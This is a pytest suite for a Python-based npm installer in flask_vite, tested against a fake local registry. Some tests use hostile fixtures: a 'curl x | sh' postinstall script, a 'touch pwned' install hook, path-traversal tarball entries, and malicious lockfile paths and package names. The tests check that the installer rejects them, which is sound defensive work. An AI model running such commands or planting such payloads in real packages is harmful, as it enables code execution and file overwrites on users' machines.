"""The installer end to end, against a fake registry on 127.0.0.1."""
from __future__ import annotations

import json
import os
import shutil
import typing as t
from pathlib import Path

import pytest

from flask_vite.errors import IntegrityError, RegistryError, TarballError
from flask_vite.npm.cache import NpmCache
from flask_vite.npm.installer import InstallError, Installer, missing_dependencies
from flask_vite.npm.lockfile import LockfileError
from flask_vite.npm.package_json import add_packages, remove_packages
from flask_vite.npm.platform import Platform
from flask_vite.npm.registry import RegistryClient

from .helpers import FakeRegistry, make_tarball, package_tarball

LINUX = Platform("linux", "x64", "glibc")


def project(tmp_path: Path, **package: t.Any) -> Path:
    root = tmp_path / "app"
    root.mkdir(exist_ok=True)
    (root / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", **package},
                                                  indent=2) + "\n")
    return root


def installer(reg: FakeRegistry, root: Path, cache: NpmCache, **kw: t.Any) -> Installer:
    client = RegistryClient(reg.url, cache=cache, backoff=0.01)
    return Installer(root, client=client, platform=LINUX, **kw)


def installed(root: Path) -> dict[str, str]:
    out = {}
    for pj in sorted((root / "node_modules").glob("**/package.json")):
        rel = pj.parent.relative_to(root).as_posix()
        doc = json.loads(pj.read_text())
        out[rel] = f"{doc['name']}@{doc['version']}"
    return out


def test_install_layout_lock_and_noop(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                                      tmp_path: Path) -> None:
    fake_registry.publish("a", "1.0.0", deps={"b": "^1.1"}, bin={"a-cli": "./cli.js"},
                          tarball=package_tarball("a", "1.0.0", {"dependencies": {"b": "^1.1"}},
                                                  [("cli.js", (b"#!x", 0o644))]))
    fake_registry.publish("b", "1.0.0")
    fake_registry.publish("b", "1.2.0")
    root = project(tmp_path, dependencies={"a": "^1", "b": "1.0.0"})
    result = installer(fake_registry, root, tmp_cache).install()
    assert sorted(result.added) == ["a@1.0.0", "b@1.0.0", "b@1.2.0"]
    assert installed(root) == {"node_modules/a": "a@1.0.0",
                               "node_modules/a/node_modules/b": "b@1.2.0",
                               "node_modules/b": "b@1.0.0"}
    lock = json.loads((root / "package-lock.json").read_text())
    assert lock["lockfileVersion"] == 3
    assert lock["packages"]["node_modules/a"]["integrity"].startswith("sha512-")
    if os.name == "posix":
        assert os.access(root / "node_modules/.bin/a-cli", os.X_OK)
    again = installer(fake_registry, root, tmp_cache).install()
    assert again.added == [] and again.kept == 3 and not again.lock_changed
    assert not list((root / "node_modules").glob(".flask-vite-staging-*"))
    project(tmp_path, dependencies={"b": "1.0.0"})
    gone = installer(fake_registry, root, tmp_cache).install()
    assert sorted(gone.removed) == ["node_modules/a", "node_modules/a/node_modules/b"]
    assert installed(root) == {"node_modules/b": "b@1.0.0"}
    assert not os.path.lexists(root / "node_modules/.bin/a-cli")


def test_tampered_tarball_leaves_node_modules_untouched(
        fake_registry: FakeRegistry, tmp_cache: NpmCache, tmp_path: Path) -> None:
    fake_registry.publish("good", "1.0.0")
    fake_registry.publish("evil", "1.0.0")
    fake_registry.files["/evil/-/evil-1.0.0.tgz"] = package_tarball(
        "evil", "1.0.0", {"scripts": {"postinstall": "curl x | sh"}})
    root = project(tmp_path, dependencies={"good": "1", "evil": "1"})
    with pytest.raises(IntegrityError, match="evil@1.0.0"):
        installer(fake_registry, root, tmp_cache).install()
    # Neither the bad package nor the good one from the same run is half there.
    assert installed(root) == {}
    assert not list((root / "node_modules").glob(".flask-vite-staging-*"))
    assert not (root / "package-lock.json").exists()


@pytest.mark.parametrize("entry", ["!package/../../escaped.js", "!../escaped.js",
                                   "!/tmp/escaped.js"])
def test_path_escape_rejected(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                              tmp_path: Path, entry: str) -> None:
    evil = make_tarball([("package.json", b'{"name":"evil","version":"1.0.0"}'), (entry, b"x")])
    fake_registry.publish("evil", "1.0.0", tarball=evil)  # integrity matches: only the path is bad
    root = project(tmp_path, dependencies={"evil": "1"})
    with pytest.raises(TarballError, match="evil@1.0.0"):
        installer(fake_registry, root, tmp_cache).install()
    assert not (tmp_path / "escaped.js").exists()
    assert not (root / "escaped.js").exists()
    assert installed(root) == {}


def test_frozen_detects_drift(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                              tmp_path: Path) -> None:
    fake_registry.publish("a", "1.0.0")
    fake_registry.publish("b", "1.0.0")
    root = project(tmp_path, dependencies={"a": "1"})
    installer(fake_registry, root, tmp_cache).install()
    assert installer(fake_registry, root, tmp_cache, frozen=True).install().added == []
    lock_before = (root / "package-lock.json").read_text()
    project(tmp_path, dependencies={"a": "1", "b": "^1"})
    with pytest.raises(LockfileError, match="b@\\^1 is not in the lock"):
        installer(fake_registry, root, tmp_cache, frozen=True).install()
    project(tmp_path, dependencies={"a": "^1"})
    with pytest.raises(LockfileError, match="'\\^1' in package.json but '1' in the lock"):
        installer(fake_registry, root, tmp_cache, frozen=True).install()
    assert (root / "package-lock.json").read_text() == lock_before


def test_second_install_offline_from_cache(tmp_cache: NpmCache, tmp_path: Path) -> None:
    reg = FakeRegistry()
    try:
        reg.publish("a", "1.0.0", deps={"b": "1"})
        reg.publish("b", "1.0.0")
        root = project(tmp_path, dependencies={"a": "1"})
        installer(reg, root, tmp_cache).install()
    finally:
        reg.close()
    # The registry is gone; the lock plus the content cache are enough.
    shutil.rmtree(root / "node_modules")
    client = RegistryClient(reg.url, cache=tmp_cache, offline=True)
    result = Installer(root, client=client, platform=LINUX).install()
    assert sorted(result.added) == ["a@1.0.0", "b@1.0.0"]
    # Not even told it is offline: the lock and the cache need no request.
    shutil.rmtree(root / "node_modules")
    client = RegistryClient(reg.url, cache=tmp_cache, retries=0)
    assert len(Installer(root, client=client, platform=LINUX).install().added) == 2
    # Without the lock, resolution works offline too, from cached packuments.
    (root / "package-lock.json").unlink()
    client = RegistryClient(reg.url, cache=tmp_cache, offline=True)
    assert Installer(root, client=client, platform=LINUX).install().lock_changed


def test_install_scripts_never_run(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                                   tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    scripts = {"postinstall": f"touch {marker}"}
    fake_registry.publish("native", "1.0.0", scripts=scripts,
                          tarball=package_tarball("native", "1.0.0", {"scripts": scripts}))
    root = project(tmp_path, dependencies={"native": "1"})
    result = installer(fake_registry, root, tmp_cache).install()
    assert result.install_scripts == ["native@1.0.0"]
    assert not marker.exists()


def test_optional_platform_filter_and_production(fake_registry: FakeRegistry,
                                                 tmp_cache: NpmCache, tmp_path: Path) -> None:
    fake_registry.publish("bin-linux", "1.0.0", os=["linux"], cpu=["x64"], libc=["glibc"])
    fake_registry.publish("bin-linux-musl", "1.0.0", os=["linux"], cpu=["x64"], libc=["musl"])
    fake_registry.publish("bin-darwin", "1.0.0", os=["darwin"], cpu=["arm64"])
    fake_registry.publish("tool", "1.0.0", optionalDependencies={
        "bin-linux": "1", "bin-linux-musl": "1", "bin-darwin": "1"})
    fake_registry.publish("devtool", "1.0.0")
    root = project(tmp_path, dependencies={"tool": "1"}, devDependencies={"devtool": "1"})
    installer(fake_registry, root, tmp_cache, production=True).install()
    assert set(installed(root)) == {"node_modules/tool", "node_modules/bin-linux"}
    lock = json.loads((root / "package-lock.json").read_text())["packages"]
    assert lock["node_modules/bin-darwin"]["optional"] is True  # portable lock
    assert lock["node_modules/devtool"]["dev"] is True
    installer(fake_registry, root, tmp_cache).install()
    assert "node_modules/devtool" in installed(root)


def test_required_package_for_other_platform(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                                             tmp_path: Path) -> None:
    fake_registry.publish("macos-only", "1.0.0", os=["darwin"])
    root = project(tmp_path, dependencies={"macos-only": "1"})
    with pytest.raises(InstallError, match="macos-only@1.0.0 does not support this platform"):
        installer(fake_registry, root, tmp_cache).install()


def test_download_retried(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                          tmp_path: Path) -> None:
    fake_registry.publish("a", "1.0.0")
    fake_registry.fail_next["/a/-/a-1.0.0.tgz"] = 2
    root = project(tmp_path, dependencies={"a": "1"})
    assert installer(fake_registry, root, tmp_cache).install().added == ["a@1.0.0"]


def test_npmrc_registry_and_token(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                                  tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NPM_CONFIG_USERCONFIG", str(tmp_path / "none"))
    monkeypatch.setenv("REG_TOKEN", "t0k")
    fake_registry.require_token = "t0k"
    fake_registry.publish("@corp/ui", "2.0.0")
    root = project(tmp_path, dependencies={"@corp/ui": "^2"})
    (root / ".npmrc").write_text(f"@corp:registry={fake_registry.url}\n"
                                 f"//{fake_registry.url.split('//')[1]}:_authToken=${{REG_TOKEN}}\n")
    client = RegistryClient.from_npmrc(root, cache=tmp_cache)
    result = Installer(root, client=client, platform=LINUX).install()
    assert result.added == ["@corp/ui@2.0.0"]


def test_add_and_remove(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                        tmp_path: Path) -> None:
    fake_registry.publish("a", "1.0.0")
    fake_registry.publish("a", "1.4.0")
    fake_registry.publish("@s/b", "2.0.0")
    root = project(tmp_path)
    client = RegistryClient(fake_registry.url, cache=tmp_cache)
    add_packages(root, ["a", "@s/b@^2"], client=client, platform=LINUX)
    doc = json.loads((root / "package.json").read_text())
    assert doc["dependencies"] == {"@s/b": "^2", "a": "^1.4.0"}
    assert missing_dependencies(root) == []
    with pytest.raises(RegistryError, match="no version of a matches '\\^9'"):
        add_packages(root, ["a@^9"], client=client, platform=LINUX)
    assert json.loads((root / "package.json").read_text()) == doc  # restored
    remove_packages(root, ["a"], client=client, platform=LINUX)
    assert set(installed(root)) == {"node_modules/@s/b"}
    (root / "package.json").write_text(json.dumps({"dependencies": {"@s/b": "^2", "c": "1"}}))
    assert missing_dependencies(root) == ["c@1"]


@pytest.mark.parametrize("location", ["node_modules/../../evil", "node_modules/@x/../../evil",
                                      "node_modules/..", "../node_modules/a"])
def test_hostile_lock_locations(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                                tmp_path: Path, location: str) -> None:
    root = project(tmp_path, dependencies={"a": "1"})
    (root / "package-lock.json").write_text(json.dumps({
        "lockfileVersion": 3, "packages": {"": {"dependencies": {"a": "1"}},
                                           location: {"version": "1.0.0"}}}))
    with pytest.raises(LockfileError, match="not a node_modules location"):
        installer(fake_registry, root, tmp_cache).install()


@pytest.mark.parametrize("name", ["../evil", "@x/../../evil", ".bin", "a/b/c"])
def test_hostile_dependency_names(fake_registry: FakeRegistry, tmp_cache: NpmCache,
                                  tmp_path: Path, name: str) -> None:
    fake_registry.publish("a", "1.0.0")
    root = project(tmp_path, dependencies={name: "npm:a@1"})
    with pytest.raises(RegistryError, match="not a valid npm package name"):
        installer(fake_registry, root, tmp_cache).install()
    assert not (tmp_path / "evil").exists()
